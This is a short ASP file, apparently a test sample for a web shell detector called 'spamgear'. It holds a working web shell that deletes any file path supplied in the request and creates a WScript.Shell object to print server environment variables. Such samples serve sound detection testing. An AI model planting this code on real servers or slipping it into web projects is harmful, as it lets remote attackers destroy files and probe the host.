<%
' spamgear test sample: a file manager (FileSystemObject driven by Request)
' that also keeps a command object: two shell interfaces in one page.
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set sh = Server.CreateObject("WScript.Shell")
p = Request("path")
If Request("do") = "del" Then fso.DeleteFile p
If Request("do") = "env" Then Response.Write sh.ExpandEnvironmentStrings("%PATH%")
%>
